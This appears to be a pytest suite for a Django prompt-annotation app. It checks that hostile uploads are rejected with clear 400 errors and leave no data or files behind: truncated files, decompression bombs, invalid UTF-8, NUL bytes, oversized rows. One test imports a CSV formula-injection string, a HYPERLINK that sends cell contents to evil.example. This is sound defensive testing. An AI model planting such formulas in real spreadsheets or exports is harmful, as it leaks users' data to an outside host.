"""The hostile corpus (tests/data/hostile/ and the large files tests/hostile.py builds): each upload
through the API answers a clear 4xx naming the problem, stores no prompt or completion, leaves no
prompt set "importing" and no file behind (PRODUCT, "Operations and limits"; issue 13)."""

from pathlib import Path

import pytest

from annotations.models import Completion, Prompt, PromptSet

from . import hostile

CORPUS = Path(__file__).parent / "data" / "hostile"
URL = "/api/projects/helpful/prompt-sets/"

# file → what the answer's first error says (every problem names its line or row where it has one).
EXPECTED = {
    "truncated.jsonl": "line 2: invalid JSON",
    "truncated.csv": "row 3: not valid CSV (unexpected end of data)",
    "truncated.parquet": "not a readable Parquet file (Parquet magic bytes not found in footer",
    "damaged_page.parquet": "row 1: the Parquet file is damaged from here on and cannot be read (",
    "garbage.parquet": "not a readable Parquet file (",
    "empty.parquet": "not a readable Parquet file (",
    "deep_nesting.jsonl": "line 2: JSON nested deeper than 64 levels",
    "invalid_utf8.jsonl": "line 2: invalid UTF-8 (byte 0xe9 at byte 16 of the line)",
    "invalid_utf8.csv": "row 3: invalid UTF-8",
    "nul_bytes.jsonl": 'line 2: "prompt" contains a NUL character',
    "nul_bytes.csv": 'row 3: "prompt" contains a NUL character',
    "long_ids.jsonl": 'line 1: "id" must be at most 255 characters without NUL characters',
    "long_ids.csv": 'row 2: "id" must be at most 255 characters without NUL characters',
    "not_a_prompt_set.exe": 'unknown file type ".exe"',
    "fifty_mb_line.jsonl": "line 1: longer than 32 MB",
    "zip_bomb.parquet": "not a readable Parquet file (",
    "parquet_bomb.parquet": "the file decompresses to 41,943,",
    "huge_row_count.parquet": "the file has 3,000,000 rows; at most 2,000,000 are allowed",
}


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {name: build(folder / name) for name, build in hostile.GENERATED.items()}


@pytest.fixture
def upload_dir(settings, tmp_path) -> Path:
    """Django's temporary upload files go here, so that the test can see none is left behind."""
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "uploads")
    Path(settings.FILE_UPLOAD_TEMP_DIR).mkdir()
    return Path(settings.FILE_UPLOAD_TEMP_DIR)


def files_under(folder: Path) -> list[Path]:
    return [p for p in Path(folder).rglob("*") if p.is_file()] if Path(folder).exists() else []


def test_the_corpus_is_complete(generated):
    assert {p.name for p in CORPUS.iterdir() if p.name != "README.md"} | set(generated) == set(EXPECTED) | {
        "formula_strings.csv"}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hostile_upload_is_a_clear_4xx_and_changes_nothing(name, generated, api, pam, settings, upload_dir):
    path = generated.get(name) or CORPUS / name
    before = (Prompt.objects.count(), Completion.objects.count())
    with path.open("rb") as handle:
        response = api(pam).post(URL, {"file": handle}, format="multipart")
    assert response.status_code == 400, (response.status_code, response.content[:500])
    body = response.json()
    assert body["errors"][0]["message"].startswith(EXPECTED[name]), body["errors"][0]["message"]
    assert (Prompt.objects.count(), Completion.objects.count()) == before
    # The upload is kept on record as failed, with its errors; never left "importing".
    assert list(PromptSet.objects.values_list("status", flat=True)) == ["failed"]
    assert PromptSet.objects.get().errors[0]["message"].startswith(EXPECTED[name])
    assert files_under(settings.MEDIA_ROOT) == []
    assert files_under(upload_dir) == []


def test_formula_strings_are_ordinary_text_to_import(api, pam, upload_dir):
    """Not an attack on LabelHub itself: stored as written, escaped only in CSV exports
    (tests/test_web_hygiene.py)."""
    with (CORPUS / "formula_strings.csv").open("rb") as handle:
        response = api(pam).post(URL, {"file": handle}, format="multipart")
    assert response.status_code == 201
    prompt = Prompt.objects.get()
    assert prompt.external_id == "-1+1"
    assert prompt.text == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert sorted(prompt.completions.values_list("text", flat=True)) == ["+1+1", "@SUM(A1:A9)"]


def test_an_unforeseen_reader_failure_is_a_failed_prompt_set_not_a_500(api, pam, monkeypatch):
    """Whatever breaks inside the reader, the upload ends failed with what broke, never "importing"."""
    import annotations.importing as importing

    def broken(stream, batch_size=2048):
        raise MemoryError("out of memory")
        yield  # pragma: no cover - a generator, like the real reader

    monkeypatch.setattr(importing, "read_parquet", broken)
    content = hostile.parquet_bytes({"prompt": ["fine"], "completions": [["a", "b"]]})
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = api(pam).post(URL, {"file": SimpleUploadedFile("set.parquet", content)}, format="multipart")
    assert response.status_code == 400
    assert response.json()["errors"][0]["message"] == "the file could not be read (MemoryError); nothing was imported"
    assert list(PromptSet.objects.values_list("status", flat=True)) == ["failed"]
    assert Prompt.objects.count() == 0


def test_parquet_row_groups_too_large_to_decode_are_refused_from_the_footer(monkeypatch):
    import io

    import annotations.importing as importing

    monkeypatch.setattr(importing, "MAX_ROW_GROUP_BYTES", 1000)
    content = hostile.parquet_bytes({"prompt": [f"prompt {i} " + "x" * 100 for i in range(100)]})
    problems = [problem for _, _, problem in importing.read_parquet(io.BytesIO(content)) if problem]
    assert [str(p) for p in problems][0].startswith("row group 1 holds ")
    assert "at most 1,000 are allowed (write the file with smaller row groups)" in str(problems[0])
